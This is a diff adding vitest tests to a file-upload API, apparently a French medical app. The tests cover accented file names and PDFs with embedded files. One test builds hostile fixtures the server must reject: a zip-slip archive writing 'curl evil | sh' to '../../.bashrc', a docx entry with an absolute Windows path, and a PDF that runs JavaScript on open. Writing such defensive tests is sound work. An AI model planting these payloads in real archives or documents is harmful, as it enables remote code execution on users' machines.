@@ -1,7 +1,7 @@
 import { readdirSync } from "node:fs";
 import { connect } from "node:net";
 import { request as httpRequest } from "node:http";
-import { unzipSync } from "fflate";
+import { unzipSync, zipSync } from "fflate";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { App } from "../../http/app.ts";
 import { listen, type RunningServer } from "../../http/server.ts";
@@ -285,5 +285,80 @@ describe("streamed limits", () => {
     await settle(async () => storedObjects().length === before);
     expect(storedObjects().length).toBe(before);
     expect(await db.prisma.file.count()).toBe(rows);
+  });
+});
+
+describe("names and contents from real browsers (issue 17)", () => {
+  const NFC = "échographie-cœur.png";
+  const NFD = NFC.normalize("NFD");
+  let requestId = 0;
+
+  beforeAll(async () => {
+    const draft = await db.prisma.request.create({
+      data: { authorId: fx.alice.id, recipientType: "PROFESSIONAL", participants: { create: { userId: fx.alice.id, professionalId: fx.alice.professionalId, side: "SENDER" } } },
+    });
+    requestId = draft.id;
+  });
+
+  /** A multipart body as a browser writes it: the file name as raw UTF-8 bytes in `filename="..."`. */
+  function browserBody(files: [Uint8Array, string][]): { body: Uint8Array<ArrayBuffer>; contentType: string } {
+    const boundary = "----WebKitFormBoundaryc0nsilium";
+    const parts = files.flatMap(([bytes, name]) => [encode(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n`), bytes, encode("\r\n")]);
+    const all = [...parts, encode(`--${boundary}--\r\n`)];
+    const body = new Uint8Array(new ArrayBuffer(all.reduce((n, part) => n + part.byteLength, 0)));
+    all.reduce((at, part) => (body.set(part, at), at + part.byteLength), 0);
+    return { body, contentType: `multipart/form-data; boundary=${boundary}` };
+  }
+
+  it("keeps an accented name through upload, list, download and zip, a decomposed one NFC-normalised", async () => {
+    const { body, contentType } = browserBody([[PNG, NFC], [PNG, NFD]]);
+    const response = await alice.fetch(`/api/v1/requests/${requestId}/files`, { method: "POST", body: new Blob([body]), headers: { "content-type": contentType } });
+    expect(response.status).toBe(201);
+    const files = (await response.json()) as Uploaded[];
+    expect(files.map((f) => f.name)).toEqual([NFC, NFC]);
+    expect(files[0]?.url).toBe(`/api/v1/requests/${requestId}/files/${files[0]?.id}/%C3%A9chographie-c%C5%93ur.png`);
+
+    const listed = await alice.graphql<{ node: { files: { name: string }[] } }>("query($id: ID!) { node(id: $id) { ... on Request { files { name } } } }", {
+      id: Buffer.from(`Request:${requestId}`).toString("base64"),
+    });
+    expect(listed.data?.node.files.map((f) => f.name)).toEqual([NFC, NFC]);
+
+    const download = await alice.fetch(files[0]?.url ?? "");
+    expect(download.headers.get("content-disposition")).toBe(`inline; filename="echographie-coeur.png"; filename*=UTF-8''%C3%A9chographie-c%C5%93ur.png`);
+    expect(new Uint8Array(await download.arrayBuffer())).toEqual(PNG);
+
+    const archive = new Uint8Array(await (await alice.fetch(`/api/v1/requests/${requestId}/files/zip`)).arrayBuffer());
+    expect(Object.keys(unzipSync(archive))).toEqual([NFC, "échographie-cœur (2).png"]);
+    // General purpose flag bit 11: the names are UTF-8, not CP437, for every unzip tool.
+    expect(new DataView(archive.buffer, archive.byteOffset).getUint16(6, true) & 0x800).toBe(0x800);
+  });
+
+  it("refuses a zip or an office document with an entry outside its folder, and a PDF that runs JavaScript, with invalid_file", async () => {
+    const rows = await db.prisma.file.count();
+    const before = storedObjects().length;
+    const slip = zipSync({ "IRM/IM0001.dcm": PNG, "../../.bashrc": encode("curl evil | sh") }, { level: 0 });
+    const docx = zipSync({ "[Content_Types].xml": encode("<Types/>"), "word/document.xml": encode("<w/>"), "C:/Windows/x.dll": PNG }, { level: 0 });
+    const script = encode("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('https://x'))>>>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n");
+    for (const [bytes, name] of [[slip, "dossier.zip"], [docx, "courrier.docx"], [script, "résultats.pdf"]] as const) {
+      const response = await upload(alice, `/requests/${requestId}/files`, form([[PNG, "ok.png"], [bytes, name]]));
+      expect([name, response.status]).toEqual([name, 422]);
+      expect(await response.json()).toMatchObject({ code: "invalid_file", field: "file", message: expect.stringContaining("contenu actif") });
+    }
+    expect(await db.prisma.file.count()).toBe(rows);
+    expect(storedObjects().length).toBe(before);
+
+    const folder = zipSync({ "IRM/IM0001.dcm": PNG, "IRM/compte rendu.txt": TEXT }, { level: 0 });
+    expect((await upload(alice, `/requests/${requestId}/files`, form([[folder, "IRM.zip"]]))).status).toBe(201);
+  });
+
+  it("accepts a PDF with an embedded file and marks it", async () => {
+    const embedded = encode("%PDF-1.7\n1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n");
+    const response = await upload(alice, `/requests/${requestId}/files`, form([[embedded, "factur-x.pdf"]]));
+    expect(response.status).toBe(201);
+    const [file] = (await response.json()) as Uploaded[];
+    const listed = await alice.graphql<{ node: { embedsFiles: boolean } }>("query($id: ID!) { node(id: $id) { ... on File { embedsFiles } } }", {
+      id: Buffer.from(`File:${file?.id}`).toString("base64"),
+    });
+    expect(listed.data?.node.embedsFiles).toBe(true);
   });
 });
